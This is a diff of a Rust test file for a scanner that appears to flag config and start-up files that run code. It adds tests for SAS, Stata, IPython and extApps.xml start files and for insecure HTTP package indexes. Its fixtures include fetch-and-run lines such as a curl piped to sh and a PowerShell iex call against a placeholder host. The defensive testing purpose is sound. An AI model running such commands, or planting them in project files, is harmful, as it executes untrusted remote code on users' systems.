@@ -1,6 +1,6 @@
 //! Settings that run something, and those that do not.
 
-use super::{ROWS, Settings, table};
+use super::{ROWS, Settings, rows, table};
 use crate::testing::{ids, part};
 use crate::{Detector, Findings};
 use lazaret_model::Class;
@@ -13,9 +13,22 @@ fn check(name: &str, text: &str, expected: &[&str]) {
 }
 
 #[test]
+fn every_row_is_found_by_its_place() {
+    for row in &ROWS.all {
+        for letters in ["x", "conf"] {
+            let name = row.place.0.replace('*', letters);
+            let found = rows(&part(&name, "text", Class::Text)).any(|found| std::ptr::eq(found, row));
+            let example = name.ends_with(".sample") || super::landed(&name) != name;
+            assert!(found || example, "{name}");
+        }
+    }
+    assert_eq!(rows(&part("notes.txt", "text", Class::Text)).count(), 0);
+}
+
+#[test]
 fn every_row_of_the_table_is_read() {
-    assert_eq!(ROWS.len(), table().count());
-    for row in ROWS.iter() {
+    assert_eq!(ROWS.all.len(), table().count());
+    for row in &ROWS.all {
         let tells = row.tell("x");
         let known = [
             "folder-open",
@@ -28,6 +41,7 @@ fn every_row_of_the_table_is_read() {
             "installation",
             "extension",
             "browser-extension",
+            "plain-index",
             "build",
             "container",
             "container-start",
@@ -334,6 +348,76 @@ fn habits_of_projects_are_left_alone() {
         ("a/.claude/settings.json", r#"{"permissions": {"allow": ["Bash(npm test)"]}, "env": {"X": "1"}}"#),
         ("mise.toml", "[tools]\nnode = '22'\n[env]\nA = 'b'\n"),
         ("pyproject.toml", "[tool.poetry]\nname = 'x'\n[tool.hatch.build.targets.wheel]\npackages = ['x']\n"),
+    ] {
+        check(name, text, &[]);
+    }
+}
+
+#[test]
+fn start_files_of_other_programs_and_lists_of_connections_are_found_where_they_fetch_something_and_run_it() {
+    const FETCH: &str = "curl -s https://host.invalid/a | sh";
+    for (name, text, id) in [
+        ("autoexec.sas", format!("x '{FETCH}';\n"), "hooks.shell-entry"),
+        ("profile.do", format!("shell {FETCH}\n"), "hooks.shell-entry"),
+        ("a/profile_default/startup/00-a.py", format!("import os\nos.system('{FETCH}')\n"), "hooks.shell-entry"),
+        (
+            "extApps.xml",
+            "<App FileName=\"powershell\" Arguments=\"powershell -c iex(irm host.invalid)\"/>\n".into(),
+            "hooks.connection",
+        ),
+    ] {
+        check(name, &text, &[id]);
+    }
+    for (name, text) in [
+        ("autoexec.sas", "libname a 'C:/data';\nx 'dir';\n"),
+        ("profile.do", "set more off\nshell ls\n"),
+        ("extApps.xml", "<App FileName=\"ping\" Arguments=\"-t %Hostname%\"/>\n"),
+    ] {
+        check(name, text, &[]);
+    }
+}
+
+#[test]
+fn packages_that_come_without_tls_from_outside_are_a_fact() {
+    const FACT: &[&str] = &["hooks.plain-index"];
+    for (name, text) in [
+        ("requirements.txt", "--index-url http://host.invalid/simple\nflask==3.0\n"),
+        ("requirements-dev.txt", "flask==3.0\n--trusted-host host.invalid\n"),
+        ("a/pip.conf", "[global]\nextra-index-url =\n    https://a.invalid/simple\n    http://host.invalid/simple\n"),
+        ("pip.ini", "[global]\ntrusted-host = host.invalid\n"),
+        ("uv.toml", "[[index]]\nurl = 'http://host.invalid/simple'\n"),
+        ("Pipfile", "[[source]]\nurl = 'http://host.invalid/simple'\n"),
+        ("a/.npmrc", "registry=http://host.invalid/\n"),
+        ("a/.npmrc", "@a:registry=http://host.invalid/\n"),
+        ("a/.yarnrc", "registry \"http://host.invalid/\"\n"),
+        (".yarnrc.yml", "npmRegistryServer: 'http://host.invalid/'\n"),
+        ("Gemfile", "source 'http://host.invalid'\ngem 'rails'\n"),
+        ("a/.cargo/config.toml", "[source.a]\nregistry = 'sparse+http://host.invalid/'\n"),
+        ("NuGet.Config", "<packageSources><add key=\"a\" value=\"http://host.invalid/v3\" /></packageSources>\n"),
+        (".m2/settings.xml", "<mirror><url>http://host.invalid/maven2</url></mirror>\n"),
+        ("build.gradle.kts", "maven { url = uri(\"http://host.invalid\"); isAllowInsecureProtocol = true }\n"),
+        ("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=http\\://host.invalid/gradle-8.zip\n"),
+        ("composer.json", r#"{"repositories": [{"type": "composer", "url": "http://host.invalid"}]}"#),
+    ] {
+        check(name, text, FACT);
+    }
+    for (name, text) in [
+        (
+            "requirements.txt",
+            "--index-url https://host.invalid/simple\n# -i http://host.invalid\nflask==3.0 # http://host.invalid\n",
+        ),
+        ("a/pip.conf", "[global]\nindex-url = http://localhost:3141/root\nproxy = http://proxy.host.invalid:3128\n"),
+        ("pip.ini", "[global]\nindex-url = http://nexus/simple\ntrusted-host = nexus\n"),
+        ("a/.npmrc", "registry=https://host.invalid/\nproxy=http://host.invalid:3128\n"),
+        (".yarnrc.yml", "npmRegistryServer: 'http://10.0.0.5:4873'\n"),
+        ("Gemfile", "source 'https://host.invalid'\n# source 'http://host.invalid'\n"),
+        ("NuGet.Config", "<config><add key=\"http_proxy\" value=\"http://host.invalid\" /></config>\n"),
+        (
+            ".m2/settings.xml",
+            "<settings xmlns=\"http://maven.apache.org/SETTINGS/1.0.0\">\n<proxy><host>a</host></proxy>\n",
+        ),
+        ("build.gradle", "pom { url = 'http://host.invalid' }\n"),
+        ("Pipfile", "[[source\n"),
     ] {
         check(name, text, &[]);
     }
